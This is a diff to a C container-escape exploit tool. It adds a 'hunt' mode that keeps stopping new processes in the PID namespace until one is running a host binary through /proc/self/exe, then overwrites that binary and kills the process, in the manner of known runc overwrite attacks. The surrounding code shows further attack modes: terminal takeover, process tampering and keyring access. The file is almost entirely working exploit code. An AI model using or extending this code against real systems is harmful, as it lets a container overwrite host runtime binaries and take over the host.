@@ -44,6 +44,26 @@ static int take_the_runtime(void) {
   return said("exec", -1);
 }
 
+/* Stop whatever else appears in this pid namespace, again and again, until one of them runs a program of the host's: one
+ * on its way to the command it was asked for, or one that was asked for /proc/self/exe. That program is a mount of its
+ * own, so its name is "/". */
+static int hunt(void) {
+  char path[64], target[4096];
+  puts("hunting");
+  for (pid_t next = getpid() + 1;; next++) {
+    while (kill(next, SIGSTOP) < 0 && kill(next + 1, 0) < 0) continue;
+    snprintf(path, sizeof path, "/proc/%d/exe", next);
+    while (kill(next, SIGSTOP) == 0) {
+      ssize_t length = readlink(path, target, sizeof target - 1);
+      if (length == 1 && target[0] == '/') {
+        overwrite(path);
+        return kill(next, SIGKILL);
+      }
+      kill(next, SIGCONT);
+    }
+  }
+}
+
 /* Put a character into a terminal's input, and take the terminal over. */
 static int terminal(int fd) {
   int taken = ioctl(fd, TIOCSCTTY, 1);
@@ -111,6 +131,7 @@ int main(int argc, char **argv) {
   setvbuf(stdout, NULL, _IONBF, 0);
   if (argc < 2 || !strcmp(argv[0], "/proc/self/exe")) return take_the_runtime();
   if (!strcmp(argv[1], "overwrite")) return overwrite(argv[2]);
+  if (!strcmp(argv[1], "hunt")) return hunt();
   if (!strcmp(argv[1], "terminal")) return terminal(atoi(argv[2]));
   if (!strcmp(argv[1], "process")) return process(atoi(argv[2]));
   if (!strcmp(argv[1], "keyrings")) return keyrings(argv[2]);
